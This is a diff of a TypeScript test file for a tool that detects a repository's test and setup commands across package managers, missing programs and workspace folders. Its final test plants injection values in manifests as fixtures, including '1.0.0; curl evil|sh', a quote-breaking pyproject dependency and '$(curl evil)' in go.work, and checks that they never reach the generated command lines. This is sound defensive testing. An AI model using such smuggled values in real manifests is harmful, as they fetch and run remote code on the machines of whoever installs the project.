@@ -1,162 +1,140 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { detectCommands, type ListingReader } from './detect.ts';
+import { detectCommands, programsOf } from './detect.ts';
+import {
+  CRATE,
+  EVERY,
+  type Files,
+  FLIT,
+  folderOf,
+  MODULE,
+  manifest,
+  PYTEST,
+  pinned,
+  TESTED,
+  UNTESTED,
+  VENV,
+} from './detecting/testing.ts';
 
-const repositoryOf = (files: Record<string, string>): ListingReader => ({
-  has: async (path) => Object.hasOwn(files, path),
-  read: async (path) => (Object.hasOwn(files, path) ? files[path] : undefined),
-  top: async () => Object.keys(files).filter((path) => !path.includes('/')),
-});
-const TESTED = JSON.stringify({ scripts: { test: 'node --test' } });
-const UNTESTED = JSON.stringify({ scripts: { test: 'echo "Error: no test specified" && exit 1' } });
+// ───────────── what is missing ─────────────
 
-const pinned = (packageManager: string, dependencies = {}): string =>
-  JSON.stringify({ packageManager, dependencies, scripts: { test: 'x' } });
+const without =
+  (...programs: readonly string[]) =>
+  (program: string): boolean =>
+    !programs.includes(program);
 
-const rows: [string, Record<string, string>, string | undefined, string | undefined][] = [
-  ['pnpm', { 'package.json': TESTED, 'pnpm-lock.yaml': '' }, 'pnpm test', 'pnpm install --frozen-lockfile'],
-  ['npm', { 'package.json': TESTED, 'package-lock.json': '' }, 'npm test', 'npm ci'],
-  ['yarn', { 'package.json': TESTED, 'yarn.lock': '' }, 'yarn test', 'yarn install --frozen-lockfile'],
-  ['bun', { 'package.json': TESTED, 'bun.lock': '' }, 'bun run test', 'bun install --frozen-lockfile'],
-  ['no lockfile', { 'package.json': TESTED }, 'npm test', undefined],
-  ['the test script npm init writes', { 'package.json': UNTESTED }, undefined, undefined],
-  ['a package.json that is no JSON', { 'package.json': '{' }, undefined, undefined],
+const instead: [string, Files, readonly string[], string | undefined, string | undefined][] = [
   [
-    'cargo',
-    { 'Cargo.toml': '', 'Cargo.lock': '' },
-    'cargo test --locked --no-fail-fast',
-    'cargo fetch --locked',
-  ],
-  ['go', { 'go.mod': '' }, 'go test ./...', 'go mod download'],
-  ['pytest', { 'pyproject.toml': '[tool.pytest.ini_options]' }, 'python3 -m pytest -q', undefined],
-  ['make', { Makefile: 'all:\n\ntest: all\n\tsh t' }, 'make test', undefined],
-  ['make, a variable called test', { Makefile: 'test := 1\n' }, undefined, undefined],
-  [
-    'node without tests beside make',
-    { 'package.json': UNTESTED, 'package-lock.json': '', Makefile: 'test:\n' },
-    'make test',
-    'npm ci',
-  ],
-  ['nothing', {}, undefined, undefined],
-  [
-    'a pin of pnpm beside a lockfile that npm left',
-    { 'package.json': pinned('pnpm@9.1.0+sha512.x'), 'pnpm-lock.yaml': '', 'package-lock.json': '' },
+    'pnpm by npm, in the version that is pinned',
+    { 'package.json': pinned('pnpm@10.33.4'), 'pnpm-lock.yaml': '' },
+    ['pnpm'],
     'pnpm test',
-    'pnpm install --frozen-lockfile',
+    'npm install --global --prefix "$HOME/.local" pnpm@10.33.4 && pnpm install --frozen-lockfile',
   ],
   [
-    'a pin of a later yarn',
+    'a later yarn by npm',
     { 'package.json': pinned('yarn@4.2.2'), 'yarn.lock': '' },
+    ['yarn'],
     'yarn test',
-    'yarn install --immutable',
+    'npm install --global --prefix "$HOME/.local" @yarnpkg/cli-dist@4.2.2 && yarn install --immutable',
   ],
   [
-    'a pin and no lockfile',
-    { 'package.json': pinned('pnpm@9.1.0', { a: '1' }) },
-    'pnpm test',
-    'pnpm install --no-lockfile',
+    'pip for uv, with the group of the tests',
+    { 'uv.lock': '', 'pyproject.toml': FLIT },
+    ['uv'],
+    PYTEST,
+    `${VENV} -e . freezegun 'pytest>=8'`,
   ],
   [
-    'dependencies and no lockfile',
-    { 'package.json': JSON.stringify({ scripts: { test: 'x' }, devDependencies: { a: '1' } }) },
-    'npm test',
-    'npm install --no-package-lock',
-  ],
-  [
-    'a pnpm workspace whose packages have the tests',
-    { 'package.json': '{}', 'pnpm-lock.yaml': '', 'pnpm-workspace.yaml': '' },
-    'pnpm -r --if-present test',
-    'pnpm install --frozen-lockfile',
-  ],
-  [
-    'npm workspaces',
-    { 'package.json': JSON.stringify({ workspaces: ['p/*'] }), 'package-lock.json': '' },
-    'npm test --workspaces --if-present',
-    'npm ci',
-  ],
-  [
-    'deno',
-    { 'deno.json': '{"tasks":{"test":"deno test"}}', 'deno.lock': '' },
-    'deno task test',
-    'deno install --frozen',
-  ],
-  ['deno without a task', { 'deno.jsonc': '{ // ours\n}' }, 'deno test -A', 'deno install'],
-  [
-    'uv',
-    { 'uv.lock': '', 'pyproject.toml': '[tool.pytest.ini_options]' },
-    'uv run --no-sync pytest -q',
-    'uv sync --locked --all-extras',
-  ],
-  [
-    'poetry',
-    { 'poetry.lock': '', 'tests/conftest.py': '' },
-    'poetry run pytest -q',
-    'poetry install --no-interaction --all-extras',
-  ],
-  ['pipenv', { 'Pipfile.lock': '', 'pytest.ini': '' }, 'pipenv run pytest -q', 'pipenv sync --dev'],
-  [
-    'hatch',
-    { 'pyproject.toml': '[project]\n[tool.hatch.envs.default.scripts]\ntest = "pytest"\n' },
-    'hatch run test',
-    'hatch env create',
-  ],
-  ['tox', { 'tox.ini': '[testenv]\ncommands = x' }, 'tox run --skip-pkg-install', 'tox run --notest'],
-  ['pytest in .pytest.ini', { '.pytest.ini': '' }, 'python3 -m pytest -q', undefined],
-  ['pytest in setup.cfg', { 'setup.cfg': '[tool:pytest]' }, 'python3 -m pytest -q', undefined],
-  [
-    'pip, a package with extras for tests',
-    {
-      'pyproject.toml':
-        '[project]\nname = "a"\n[project.optional-dependencies]\ndocs = ["s"]\ntest = ["pytest"]\n[tool.pytest.ini_options]\n',
-    },
-    '.venv/bin/python -m pytest -q',
-    "python3 -m venv .venv && .venv/bin/pip install -q -e '.[test]' pytest",
-  ],
-  [
-    'pip, lists of requirements',
-    { 'pytest.ini': '', 'requirements.txt': '', 'requirements-dev.txt': '' },
-    '.venv/bin/python -m pytest -q',
-    'python3 -m venv .venv && .venv/bin/pip install -q -r requirements.txt -r requirements-dev.txt pytest',
-  ],
-  [
-    'maven and its wrapper',
+    'maven for a wrapper is no help without java',
     { 'pom.xml': '', mvnw: '' },
+    ['java'],
     'sh mvnw -B -o test',
     'sh mvnw -B -q -DskipTests test-compile surefire:help dependency:go-offline',
   ],
-  [
-    'gradle',
-    { 'build.gradle.kts': '' },
-    'gradle --no-daemon --offline --continue test',
-    'gradle --no-daemon testClasses',
-  ],
-  ['dotnet', { 'Shop.sln': '' }, 'dotnet test --no-restore', 'dotnet restore'],
-  [
-    'bundler and rspec',
-    { Gemfile: '', '.rspec': '' },
-    'bundle exec rspec',
-    'bundle config set --local path vendor/bundle && bundle install',
-  ],
-  [
-    'composer and phpunit',
-    { 'composer.json': '{}', 'phpunit.xml.dist': '' },
-    'vendor/bin/phpunit',
-    'composer install --no-interaction --no-progress',
-  ],
-  ['mix', { 'mix.exs': '' }, 'mix test', 'mix local.hex --force && mix local.rebar --force && mix deps.get'],
-  ['just', { justfile: 'test *args:\n  x\n' }, 'just test', undefined],
-  ['make check', { Makefile: 'check: all\n' }, 'make check', undefined],
-  [
-    'CMake',
-    { 'CMakeLists.txt': 'enable_testing()\n' },
-    'cmake -S . -B build && cmake --build build && ctest --test-dir build --output-on-failure',
-    undefined,
-  ],
 ];
-for (const [name, files, gate, setup] of rows) {
-  test(`gate and setup of a repository with ${name}: ${gate ?? 'no gate'}, ${setup ?? 'no setup'}`, async () => {
-    const found = await detectCommands(repositoryOf(files));
+for (const [what, files, gone, gate, setup] of instead) {
+  test(`where a program is missing: ${what}`, () => {
+    const found = detectCommands([folderOf(files)], without(...gone));
     assert.deepEqual([found.gate, found.setup], [gate, setup]);
-    assert.ok(found.why.length > 0);
   });
 }
+
+test('what is missing is named, and the next best that could run is offered', () => {
+  const files = { 'go.mod': MODULE, Makefile: 'test:\n\tgo test ./...\n' };
+  const found = detectCommands([folderOf(files)], without('go'));
+  assert.deepEqual(
+    [found.gate, found.missing, found.nextBest],
+    ['go test ./...', ['go'], { gate: 'make test' }],
+  );
+  assert.deepEqual(programsOf([folderOf(files)]), ['go', 'make']);
+  assert.deepEqual(detectCommands([folderOf({ 'go.mod': MODULE })], without('go')).nextBest, undefined);
+});
+
+// ───────────── folders ─────────────
+
+const ROOT = {
+  'package.json': manifest({ workspaces: ['packages/*'], scripts: { test: 'vitest' } }),
+  'package-lock.json': '',
+};
+
+const nested: [string, Files, Files, string | undefined, string | undefined][] = [
+  [
+    'a member of a workspace: its tests, the root’s setup',
+    { 'package.json': TESTED },
+    ROOT,
+    'cd packages/till && npm test',
+    'npm ci',
+  ],
+  [
+    'a project with a lockfile of its own',
+    { 'package.json': TESTED, 'package-lock.json': '' },
+    ROOT,
+    'cd packages/till && npm test',
+    'cd packages/till && npm ci',
+  ],
+  ['a folder without a manifest', { 'main.js': '' }, ROOT, 'npm test', 'npm ci'],
+  ['a package whose test script is npm’s own', { 'package.json': UNTESTED }, ROOT, 'npm test', 'npm ci'],
+  [
+    'a crate of a workspace, locked by the root',
+    { 'Cargo.toml': CRATE },
+    { 'Cargo.toml': '[workspace]\n', 'Cargo.lock': '' },
+    'cd packages/till && cargo test --locked --no-fail-fast',
+    'cd packages/till && cargo fetch --locked',
+  ],
+  [
+    'a module of a maven build',
+    { 'pom.xml': '' },
+    { 'pom.xml': '' },
+    'mvn -B -o test',
+    'mvn -B -q -DskipTests test-compile surefire:help dependency:go-offline',
+  ],
+];
+for (const [what, here, root, gate, setup] of nested) {
+  test(`the manifest of the folder one stands in goes before the root’s: ${what}`, () => {
+    const found = detectCommands([folderOf(here, 'packages/till'), folderOf(root)], EVERY);
+    assert.deepEqual([found.gate, found.setup], [gate, setup]);
+  });
+}
+
+// ───────────── hostile manifests ─────────────
+
+test('nothing of a manifest comes into a command line but plain versions, paths and requirements', () => {
+  const evil = '1.0.0; curl evil|sh';
+  const bad: Files[] = [
+    { 'package.json': pinned(`pnpm@${evil}`), 'pnpm-lock.yaml': '' },
+    {
+      'package.json': TESTED,
+      'yarn.lock': '',
+      '.yarnrc.yml': 'yarnPath: .yarn/releases/x.cjs; curl evil|sh',
+    },
+    {
+      'pyproject.toml': `[project]\nname = "a"\n[dependency-groups]\ntests = ["pytest", "x'; curl evil|sh #", "--index-url=evil"]\n`,
+    },
+    { 'go.work': 'use (\n ./a;curl evil|sh\n ./$(curl evil)\n ./ok\n)\n' },
+  ];
+  for (const files of bad) {
+    const { gate, setup, why } = detectCommands([folderOf(files)], without('pnpm', 'yarn'));
+    assert.doesNotMatch([gate, setup, ...why].join('\n'), /evil|\$\(/);
+  }
+});
